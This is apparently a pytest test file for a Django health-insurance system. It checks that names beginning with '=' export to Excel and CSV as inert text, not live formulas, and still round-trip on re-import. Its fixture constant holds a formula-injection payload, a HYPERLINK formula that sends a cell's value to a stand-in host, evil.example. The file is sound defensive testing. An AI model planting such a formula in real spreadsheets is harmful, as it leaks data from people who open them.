"""Issue 14 §6 (R-SEC-4): a value starting with "=" leaves every Excel export as text, never as a live formula, and
export → import is still a round trip (the same value comes back, nothing changes)."""
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from apps.core.excel.safety import csv_safe, neutralise_formulas
from tests import factories as f

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def _formula_cells(content: bytes) -> list:
    wb = load_workbook(io.BytesIO(content))
    return [(ws.title, c.coordinate, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def _values(content: bytes) -> list:
    wb = load_workbook(io.BytesIO(content))
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]


@pytest.fixture
def client(api_as, zhongwei):
    f.region("640502", "沙坡头区")
    return api_as(f.bureau_admin())


def test_r_sec_4_institution_named_like_a_formula_is_text_in_the_export_and_round_trips(client):
    f.InstitutionFactory(code="H640500001", name=EVIL)
    exported = client.get("/api/v1/imports/institutions/export/")
    assert exported.status_code == 200
    assert _formula_cells(exported.content) == []
    assert EVIL in _values(exported.content)  # the name exactly, "=" kept
    response = client.post("/api/v1/imports/institutions/", {"file": SimpleUploadedFile("x.xlsx", exported.content)},
                           format="multipart")
    assert response.status_code == 201, response.json()
    assert (response.json()["created"], response.json()["updated"], response.json()["unchanged"]) == (0, 0, 1)


def test_r_sec_4_physician_named_like_a_formula_is_text_in_the_export(client):
    f.PhysicianFactory(code="D640500001", name=EVIL)
    exported = client.get("/api/v1/imports/physicians/export/")
    assert exported.status_code == 200
    assert _formula_cells(exported.content) == []
    assert EVIL in _values(exported.content)


def test_r_sec_4_drug_manufacturer_like_a_formula_is_text_in_the_catalogue_export(client):
    f.DrugFactory(manufacturer="=1+1", payment_standard=Decimal("100.00"))
    exported = client.get("/api/v1/imports/drugs/export/")
    assert exported.status_code == 200
    assert _formula_cells(exported.content) == []
    assert "=1+1" in _values(exported.content)


def test_r_sec_4_settlement_statements_workbook_keeps_a_formula_name_as_text():
    from types import SimpleNamespace

    from apps.settlement.excel import statements_workbook

    statement = SimpleNamespace(
        organisation=SimpleNamespace(code="H1", name=EVIL), visits=1, total=Decimal("10.00"),
        fund_payment=Decimal("7.00"), personal_payment=Decimal("3.00"), deposit=Decimal("0.35"),
        payable=Decimal("6.65"), get_organisation_kind_display=lambda: "医疗机构", get_status_display=lambda: "草稿")
    content = statements_workbook(period_label="2026-11", statements=[statement])
    assert _formula_cells(content) == []
    assert EVIL in _values(content)


def test_r_sec_4_neutralise_formulas_keeps_numbers_and_text():
    wb = Workbook()
    ws = wb.active
    ws.append([EVIL, 12.5, "普通文本", "=SUM(A1:A2)"])
    assert neutralise_formulas(wb) == 2
    out = io.BytesIO()
    wb.save(out)
    back = load_workbook(io.BytesIO(out.getvalue())).active
    assert [c.value for c in back[1]] == [EVIL, 12.5, "普通文本", "=SUM(A1:A2)"]
    assert [c.data_type for c in back[1]] == ["s", "n", "s", "s"]


@pytest.mark.parametrize("value,expected", [("=1+1", "'=1+1"), ("+86 139", "'+86 139"), ("-2+3", "'-2+3"),
                                            ("@SUM(A1)", "'@SUM(A1)"), ("中卫", "中卫"), (12, 12)])
def test_r_sec_4_csv_fields_cannot_start_a_formula(value, expected):
    assert csv_safe(value) == expected
